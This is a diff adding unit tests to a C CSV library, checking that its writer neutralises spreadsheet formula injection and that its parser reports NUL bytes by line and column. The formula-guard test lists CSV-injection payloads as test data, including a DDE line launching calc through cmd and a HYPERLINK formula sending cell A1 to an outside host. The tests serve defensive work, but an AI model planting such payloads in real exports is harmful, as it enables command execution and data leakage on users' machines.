@@ -328,6 +328,180 @@ test_writer (void)
   }
 }
 
+/* CSV injection (OWASP): cells a spreadsheet would run are guarded, and
+ * our own reader gives back every value exactly. */
+static void
+test_formula_guard (void)
+{
+  static const char *const values[] = {
+    "=HYPERLINK(\"http://example.jp/x?\"&A1,\"詳細\")",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3",
+    "\tx",
+    "\r=1",
+    "'=1",
+    "''",
+    "'",
+    "'a",
+    "a=b",
+    "",
+    "大牟田市",
+    "'''=",
+    "＝1",
+    "+81-944-00-0000",
+    NULL,
+  };
+  g_autoptr (GPtrArray) rows = g_ptr_array_new_with_free_func ((GDestroyNotify)g_strfreev);
+  g_autoptr (GError) error = NULL;
+  TsuCsvEncoding encodings[] = { TSU_CSV_ENCODING_UTF8_BOM, TSU_CSV_ENCODING_CP932 };
+
+  /* One column per value, as one row under a header. */
+  {
+    GStrv header = g_new0 (char *, G_N_ELEMENTS (values));
+
+    for (guint i = 0; values[i]; i++)
+      header[i] = g_strdup_printf ("c%u", i);
+    g_ptr_array_add (rows, header);
+    g_ptr_array_add (rows, g_strdupv ((char **)values));
+  }
+
+  for (guint e = 0; e < G_N_ELEMENTS (encodings); e++)
+    {
+      g_autoptr (GBytes) out = tsu_csv_write (rows, encodings[e], FALSE, NULL, &error);
+      g_autoptr (GPtrArray) raw = NULL;
+      g_autoptr (GPtrArray) back = NULL;
+      const char *p;
+      gsize       len;
+      char      **cells;
+
+      g_assert_no_error (error);
+      p = g_bytes_get_data (out, &len);
+
+      /* What a spreadsheet sees: no cell starts with a trigger. */
+      raw = tsu_csv_parse_full (p, len, TSU_CSV_FLAGS_NO_FORMULA_GUARD, NULL, &error);
+      g_assert_no_error (error);
+      cells = g_ptr_array_index (raw, 1);
+      for (guint i = 0; values[i]; i++)
+        {
+          g_assert_false (cells[i][0] != '\0' && strchr ("=+-@\t\r", cells[i][0]) != NULL);
+          if (tsu_csv_cell_needs_guard (values[i]))
+            {
+              g_assert_cmpint (cells[i][0], ==, '\'');
+              g_assert_cmpstr (cells[i] + 1, ==, values[i]);
+            }
+          else
+            g_assert_cmpstr (cells[i], ==, values[i]);
+        }
+      g_assert_cmpstr (cells[0], ==, "'=HYPERLINK(\"http://example.jp/x?\"&A1,\"詳細\")");
+      g_assert_cmpstr (cells[1], ==, "'+cmd|' /C calc'!A0");
+      g_assert_cmpstr (cells[2], ==, "'@SUM(1)");
+      g_assert_cmpstr (cells[3], ==, "'-2+3");
+      g_assert_cmpstr (cells[6], ==, "''=1");
+      g_assert_cmpstr (cells[8], ==, "'");
+      g_assert_cmpstr (cells[9], ==, "'a");
+
+      /* Our own reader: every value exactly. */
+      back = tsu_csv_parse (p, len, NULL, &error);
+      g_assert_no_error (error);
+      g_assert_true (g_strv_equal (g_ptr_array_index (back, 1), values));
+    }
+
+  /* Off: verbatim both ways. */
+  {
+    g_autoptr (GBytes) out = tsu_csv_write_full (
+        rows, TSU_CSV_ENCODING_UTF8, TSU_CSV_FLAGS_NO_FORMULA_GUARD, FALSE, NULL, &error);
+    gsize       len;
+    const char *p = g_bytes_get_data (out, &len);
+
+    g_assert_no_error (error);
+    g_assert_nonnull (g_strstr_len (p, len, "\r\n\"=HYPERLINK("));
+    g_assert_nonnull (g_strstr_len (p, len, ",@SUM(1),-2+3,"));
+  }
+
+  /* A file typed by hand: the apostrophe a spreadsheet user types before
+   * a formula character goes; any other stays. */
+  {
+    g_autoptr (GPtrArray) typed = parse_str ("a,b,c\n'=1,'abc,''\n", NULL, &error);
+    g_autofree char *f = flat (typed);
+
+    g_assert_no_error (error);
+    g_assert_cmpstr (f, ==, "a|b|c/=1|'abc|'");
+  }
+
+  /* The rule is a bijection: every string over the characters that matter,
+   * up to four long, comes back from guard → unguard, and two different
+   * values are never written the same. */
+  {
+    static const char alphabet[] = "=+-@\t\r'a";
+    g_autoptr (GHashTable) written = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, NULL);
+    guint n_alpha = strlen (alphabet), total = 0;
+
+    for (guint len = 0; len <= 4; len++)
+      {
+        guint count = 1;
+
+        for (guint k = 0; k < len; k++)
+          count *= n_alpha;
+        for (guint code = 0; code < count; code++)
+          {
+            char             v[5] = { 0 };
+            guint            c = code;
+            char            *g;
+            g_autofree char *u = NULL;
+
+            for (guint k = 0; k < len; k++, c /= n_alpha)
+              v[k] = alphabet[c % n_alpha];
+            g = tsu_csv_guard_cell (v);
+            u = tsu_csv_unguard_cell (g);
+            g_assert_cmpstr (u, ==, v);
+            g_assert_false (g[0] != '\0' && strchr ("=+-@\t\r", g[0]) != NULL);
+            g_assert_false (g_hash_table_contains (written, g));
+            g_hash_table_add (written, g);
+            total++;
+          }
+      }
+    g_assert_cmpuint (g_hash_table_size (written), ==, total);
+  }
+}
+
+/* A NUL byte is named with its own line, whatever the rest of the file is
+ * (before, a UTF-8 file with one NUL was guessed CP932 and blamed on line 1). */
+static void
+test_nul_byte (void)
+{
+  static const char utf8[] = "団体名,団体名フリガナ\n大牟田の会,オオムタノカイ\n三池"
+                             "\0の会,ミイケノカイ\n";
+  g_autoptr (GError) error = NULL;
+  GPtrArray *rows = tsu_csv_parse (utf8, sizeof utf8 - 1, NULL, &error);
+
+  g_assert_null (rows);
+  g_assert_error (error, TSU_CSV_ERROR, TSU_CSV_ERROR_ENCODING);
+  g_assert_nonnull (strstr (error->message, "Line 3, column 3"));
+  g_assert_nonnull (strstr (error->message, "NUL byte"));
+  g_clear_error (&error);
+
+  /* The same after a BOM, and in CP932 (三池 = 8E 4F 92 72). */
+  {
+    static const char bom[] = "\xEF\xBB\xBF"
+                              "a,b\nc,d\nef,\0g\n";
+
+    rows = tsu_csv_parse (bom, sizeof bom - 1, NULL, &error);
+    g_assert_null (rows);
+    g_assert_nonnull (strstr (error->message, "Line 3, column 4"));
+    g_assert_nonnull (strstr (error->message, "NUL byte"));
+    g_clear_error (&error);
+  }
+  {
+    static const char cp932[] = "a,b\r\nc,d\r\n\x8E\x4F\x92\x72\0,x\r\n";
+
+    rows = tsu_csv_parse (cp932, sizeof cp932 - 1, NULL, &error);
+    g_assert_null (rows);
+    g_assert_nonnull (strstr (error->message, "Line 3, column 3"));
+    g_clear_error (&error);
+  }
+}
+
 static void
 test_writer_unencodable (void)
 {
@@ -385,5 +559,7 @@ main (int argc, char **argv)
   g_test_add_func ("/jp/csv/huge-line", test_huge_line);
   g_test_add_func ("/jp/csv/writer", test_writer);
   g_test_add_func ("/jp/csv/writer-unencodable", test_writer_unencodable);
+  g_test_add_func ("/jp/csv/formula-guard", test_formula_guard);
+  g_test_add_func ("/jp/csv/nul-byte", test_nul_byte);
   return g_test_run ();
 }
